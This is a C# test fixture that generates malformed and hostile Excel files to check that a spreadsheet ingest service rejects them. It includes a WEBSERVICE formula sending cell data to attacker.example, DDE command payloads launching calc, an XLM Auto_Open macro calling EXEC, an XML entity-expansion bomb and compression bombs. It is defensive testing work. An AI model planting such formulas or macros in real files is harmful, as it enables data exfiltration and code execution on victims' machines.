using System.IO.Compression;
using System.Text;
using ClosedXML.Excel;
using DanVan.Core.Calendar;
using DanVan.Core.Ingest;

namespace DanVan.Core.Tests.Corpus;

/// <summary>One generated file with the state and problem it must end in.</summary>
public sealed record CorpusCase(string Name, Func<byte[]> Make, string ExpectedCode, IngestLimits? Limits = null)
{
    public override string ToString() => Name;
}

/// <summary>Broken, hostile and foreign files, generated on the fly (nothing binary is checked in).</summary>
public static class HostileFiles
{
    private static readonly byte[] Cfb = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];

    public static IEnumerable<CorpusCase> All()
    {
        yield return new("empty file", () => [], ProblemCodes.EmptyFile);
        yield return new("pdf renamed .xlsx", () => Encoding.ASCII.GetBytes("%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF"), ProblemCodes.NotSpreadsheet);
        yield return new("csv renamed .xlsx", () => Encoding.UTF8.GetBytes("Chỉ tiêu;Số liệu\nLD_VANBAN;5\n"), ProblemCodes.NotSpreadsheet);
        yield return new("truncated xlsx", () => World.Template()[..3000], ProblemCodes.Corrupt);
        yield return new("zip header then garbage", () => [.. "PK\u0003\u0004"u8, .. Enumerable.Range(0, 500).Select(i => (byte)(i * 7))], ProblemCodes.Corrupt);
        yield return new("password-protected (encrypted OOXML in CFB)", () => OleFile("EncryptionInfo", "EncryptedPackage"), ProblemCodes.Encrypted);
        yield return new("compound file naming a Workbook stream, no valid directory", () => OleFile("Workbook", "SummaryInformation"), ProblemCodes.Corrupt);
        yield return new("xlsm with vbaProject.bin", () => WithEntry(World.Template(), "xl/vbaProject.bin", [1, 2, 3]), ProblemCodes.MacroEnabled);
        yield return new("macroEnabled content type", () => ValidRaw(r => r.WorkbookContentType = "application/vnd.ms-excel.sheet.macroEnabled.main+xml").Build(), ProblemCodes.MacroEnabled);
        yield return new("docx, not a workbook", () => Zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w:document/>")), ProblemCodes.NotSpreadsheet);
        yield return new("LibreOffice .ods", () => Zip(("mimetype", "application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", "<office:document-content/>")), ProblemCodes.OdsFormat);
        yield return new("compression bomb (ratio)", () => WithEntry(World.Template(), "xl/media/image1.bin", new byte[8 * 1024 * 1024]), ProblemCodes.CompressionBomb);
        yield return new("compression bomb (total size)", () => WithEntry(World.Template(), "xl/media/noise.bin", Noise(3 * 1024 * 1024)), ProblemCodes.CompressionBomb,
            new IngestLimits { MaxUncompressedBytes = 2 * 1024 * 1024 });
        yield return new("file over the size limit", () => World.Template(), ProblemCodes.TooLarge, new IngestLimits { MaxFileBytes = 4 * 1024 });
        yield return new("enormous sheet dimensions", () => ValidRaw(r => r.Dimension = "A1:XFD1048576").Build(), ProblemCodes.TooManyCells);
        yield return new("too many cells on an extra sheet", TooManyCells, ProblemCodes.TooManyCells, new IngestLimits { MaxCells = 2_000 });
        yield return new("foreign workbook with too many cells", () => new RawXlsx().Sheet("Data")
            .RawRow("<row>" + string.Concat(Enumerable.Range(1, 3000).Select(c => $"<c><v>{c}</v></c>")) + "</row>").Build(), ProblemCodes.TooManyCells, new IngestLimits { MaxCells = 2_000 });
        yield return new("entity expansion in a sheet", EntityBomb, ProblemCodes.Corrupt);
        yield return new("plain workbook, not our template", PlainWorkbook, ProblemCodes.NotTemplate);
        yield return new("another form's identity", () => Raw("OTHER.FORM", "1", "1").Build(), ProblemCodes.UnknownTemplate);
        yield return new("newer template version", () => Raw(templateVersion: "2").Build(), ProblemCodes.UnsupportedVersion);
        yield return new("unknown catalogue version", () => Raw(catalogueVersion: "9").Build(), ProblemCodes.UnsupportedVersion);
        yield return new("damaged identity", () => Raw(period: "quý 4").Build(), ProblemCodes.DamagedIdentity);
        yield return new("another unit's template", () => Filler.Fill(World.Template(World.CamThanh), World.FullValues()), ProblemCodes.UnitMismatch);
        yield return new("another period's template", () => Filler.Fill(World.Template(period: World.Q3), World.FullValues()), ProblemCodes.PeriodMismatch);
        yield return new("row of an indicator deleted (#REF!)", () => ValidRaw(r => r.Name("DV_LD_VANBAN", "BaoCao", "#REF!")).Build(), ProblemCodes.MissingCell);
        foreach (var c in Structural())
        {
            yield return c;
        }
    }

    /// <summary>The hostile workbooks of issue 10: each brought a running DanVan down, or past its rules, before the package inspection.</summary>
    public static IEnumerable<CorpusCase> Structural()
    {
        yield return new("100,000 nested elements in a sheet's extLst", DeepExtLst, ProblemCodes.HostileStructure);
        yield return new("30,000 cell formats in styles.xml", ManyStyles, ProblemCodes.HostileStructure);
        yield return new("200,000 defined names", () => ManyNames(200_000), ProblemCodes.HostileStructure);
        yield return new("5,000 hidden sheets", ManySheets, ProblemCodes.HostileStructure);
        yield return new("XLM macro sheet with Auto_Open", MacroSheet, ProblemCodes.MacroEnabled);
        yield return new("external link part", () => ValidRaw().Part("xl/externalLinks/externalLink1.xml", Utf8(
            "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><externalBook><sheetNames><sheetName val=\"A\"/></sheetNames></externalBook></externalLink>")).Build(), ProblemCodes.ActiveContent);
        yield return new("DDE link", () => ValidRaw().Part("xl/externalLinks/externalLink1.xml", Utf8(
            "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>")).Build(), ProblemCodes.ActiveContent);
        yield return new("DDE formula outside the input cells", () => ValidRaw().Sheet("Khac").Row(1, RawXlsx.Formula("A1", "cmd|' /C calc'!A0", "0")).Build(), ProblemCodes.ActiveContent);
        yield return new("WEBSERVICE formula outside the input cells", () => ValidRaw().Sheet("Khac").Row(1, RawXlsx.Formula("A1", "_xlfn.WEBSERVICE(\"http://attacker.example/?\"&B1)", "0")).Build(), ProblemCodes.ActiveContent);
        yield return new("HYPERLINK formula outside the input cells", () => ValidRaw().Sheet("Khac").Row(1, RawXlsx.Formula("A1", "HYPERLINK(\"http://attacker.example\",\"bấm vào đây\")", "0")).Build(), ProblemCodes.ActiveContent);
        yield return new("OLE object part", () => ValidRaw().Part("xl/embeddings/oleObject1.bin", [0xD0, 0xCF, 0x11, 0xE0]).Build(), ProblemCodes.ActiveContent);
        yield return new("ActiveX control part", () => ValidRaw().Part("xl/activeX/activeX1.xml", Utf8("<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>")).Build(), ProblemCodes.ActiveContent);
        yield return new("dialog sheet", () => ValidRaw().Part("xl/dialogsheets/sheet1.xml", Utf8("<dialogsheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"/>")).Build(), ProblemCodes.ActiveContent);
        yield return new("1 MB string as the template id", () => Raw(id: new string('X', 1024 * 1024)).Build(), ProblemCodes.HostileStructure);
        yield return new("30,000-character template id", () => Raw(id: new string('X', 30_000)).Build(), ProblemCodes.UnknownTemplate);
        yield return new("report for 2031-Q2", () => Filler.Fill(World.Template(period: PeriodKey.ForQuarter(2031, 2)), World.FullValues()), ProblemCodes.PeriodNotStarted);
        yield return new("report for 2100-Q1", () => Filler.Fill(World.Template(period: PeriodKey.ForQuarter(2100, 1)), World.FullValues()), ProblemCodes.PeriodNotStarted);
    }

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    /// <summary>Replaces one part's text (the package otherwise as it was).</summary>
    public static byte[] Rewrite(byte[] xlsx, string part, Func<string, string> change)
    {
        using var ms = new MemoryStream();
        ms.Write(xlsx);
        using (var zip = new ZipArchive(ms, ZipArchiveMode.Update, leaveOpen: true))
        {
            var entry = zip.GetEntry(part)!;
            string text;
            using (var r = new StreamReader(entry.Open()))
            {
                text = r.ReadToEnd();
            }
            entry.Delete();
            using var w = new StreamWriter(zip.CreateEntry(part, CompressionLevel.Optimal).Open());
            w.Write(change(text));
        }
        return ms.ToArray();
    }

    private static byte[] DeepExtLst()
    {
        const int depth = 100_000;
        var nested = new StringBuilder("<extLst><ext uri=\"{78C0D931-6437-407d-A8EE-F0AAD7539E65}\">");
        for (var i = 0; i < depth; i++)
        {
            nested.Append("<x>");
        }
        for (var i = 0; i < depth; i++)
        {
            nested.Append("</x>");
        }
        nested.Append("</ext></extLst>");
        return Rewrite(ValidRaw().Build(), "xl/worksheets/sheet1.xml", t => t.Replace("</sheetData>", "</sheetData>" + nested, StringComparison.Ordinal));
    }

    private static byte[] ManyStyles()
    {
        var xfs = string.Concat(Enumerable.Repeat("<xf numFmtId=\"0\" fontId=\"0\" fillId=\"0\" borderId=\"0\"/>", 30_000));
        return ValidRaw().Part("xl/styles.xml", Utf8(
            "<styleSheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><fonts count=\"1\"><font/></fonts><fills count=\"1\"><fill/></fills><borders count=\"1\"><border/></borders>" +
            $"<cellXfs count=\"30000\">{xfs}</cellXfs></styleSheet>")).Build();
    }

    private static byte[] ManyNames(int count)
    {
        var names = new StringBuilder();
        for (var i = 0; i < count; i++)
        {
            names.Append("<definedName name=\"N").Append(i).Append("\">BaoCao!$A$1</definedName>");
        }
        return Rewrite(ValidRaw().Build(), "xl/workbook.xml", t => t.Replace("</definedNames>", names + "</definedNames>", StringComparison.Ordinal));
    }

    private static byte[] ManySheets()
    {
        var raw = ValidRaw();
        for (var i = 0; i < 5_000; i++)
        {
            raw.Sheet("H" + i, "hidden");
        }
        return raw.Build();
    }

    private static byte[] MacroSheet()
    {
        var raw = ValidRaw(r => r.Name("Auto_Open", "BaoCao", "$A$1"))
            .Part("xl/macrosheets/sheet1.xml", Utf8("<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\" xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><f>EXEC(\"calc.exe\")</f></c></row><row r=\"2\"><c r=\"A2\"><f>HALT()</f></c></row></sheetData></xm:macrosheet>"));
        return raw.Build();
    }

    /// <summary>A raw (non-ClosedXML) report with identity, every input named and filled validly.</summary>
    public static RawXlsx ValidRaw(Action<RawXlsx>? change = null)
    {
        var raw = Raw();
        change?.Invoke(raw);
        return raw;
    }

    public static RawXlsx Raw(string id = "DANVAN.BAOCAO", string templateVersion = "1", string catalogueVersion = "1", string unit = World.TinhKhe, string period = "2026-Q4")
    {
        var raw = new RawXlsx().Sheet("BaoCao");
        var values = World.FullValues();
        var row = 1;
        foreach (var indicator in World.Catalogue.Inputs)
        {
            var reference = $"D{row}";
            var value = values[indicator.Code];
            raw.Row(row, RawXlsx.Inline($"B{row}", indicator.NameVi),
                value is string s ? raw.SharedString(reference, s) : RawXlsx.Number(reference, ((long)value!).ToString(System.Globalization.CultureInfo.InvariantCulture)));
            raw.Name("DV_" + indicator.Code, "BaoCao", $"$D${row}");
            row++;
        }
        return raw.Identity(id, templateVersion, catalogueVersion, unit, period);
    }

    private static byte[] OleFile(params string[] streams)
    {
        var bytes = new List<byte>(Cfb);
        bytes.AddRange(new byte[504]);
        foreach (var s in streams)
        {
            bytes.AddRange(Encoding.Unicode.GetBytes(s));
            bytes.AddRange(new byte[64 - 2 * s.Length % 64]);
        }
        bytes.AddRange(new byte[1024]);
        return [.. bytes];
    }

    public static byte[] WithEntry(byte[] xlsx, string path, byte[] content)
    {
        using var ms = new MemoryStream();
        ms.Write(xlsx);
        using (var zip = new ZipArchive(ms, ZipArchiveMode.Update, leaveOpen: true))
        {
            using var s = zip.CreateEntry(path, CompressionLevel.Optimal).Open();
            s.Write(content);
        }
        return ms.ToArray();
    }

    private static byte[] Noise(int length)
    {
        var bytes = new byte[length];
        new Random(42).NextBytes(bytes);
        return bytes;
    }

    private static byte[] Zip(params (string Path, string Text)[] entries)
    {
        using var ms = new MemoryStream();
        using (var zip = new ZipArchive(ms, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (path, text) in entries)
            {
                using var w = new StreamWriter(zip.CreateEntry(path).Open());
                w.Write(text);
            }
        }
        return ms.ToArray();
    }

    private static byte[] TooManyCells()
    {
        var raw = ValidRaw().Sheet("Nháp");
        for (var r = 1; r <= 300; r++)
        {
            raw.Row(r, Enumerable.Range(1, 10).Select(c => RawXlsx.Number($"{DanVan.Core.Ingest.CellAddress.ColumnName(c)}{r}", "1")).ToArray());
        }
        return raw.Build();
    }

    private static byte[] EntityBomb()
    {
        const string doctype = "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\"><!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]>";
        var xlsx = ValidRaw().Build();
        using var ms = new MemoryStream();
        ms.Write(xlsx);
        using (var zip = new ZipArchive(ms, ZipArchiveMode.Update, leaveOpen: true))
        {
            var entry = zip.GetEntry("xl/worksheets/sheet1.xml")!;
            string text;
            using (var r = new StreamReader(entry.Open()))
            {
                text = r.ReadToEnd();
            }
            entry.Delete();
            text = text.Replace("standalone=\"yes\"?>", "standalone=\"yes\"?>" + doctype, StringComparison.Ordinal)
                .Replace("<sheetData>", "<sheetData><row r=\"999\"><c r=\"A999\" t=\"inlineStr\"><is><t>&lol3;</t></is></c></row>", StringComparison.Ordinal);
            using var w = new StreamWriter(zip.CreateEntry("xl/worksheets/sheet1.xml").Open());
            w.Write(text);
        }
        return ms.ToArray();
    }

    private static byte[] PlainWorkbook()
    {
        using var wb = new XLWorkbook();
        var ws = wb.Worksheets.Add("Sheet1");
        ws.Cell(1, 1).Value = "Báo cáo tự làm";
        ws.Cell(2, 4).Value = 15;
        using var ms = new MemoryStream();
        wb.SaveAs(ms);
        return ms.ToArray();
    }
}
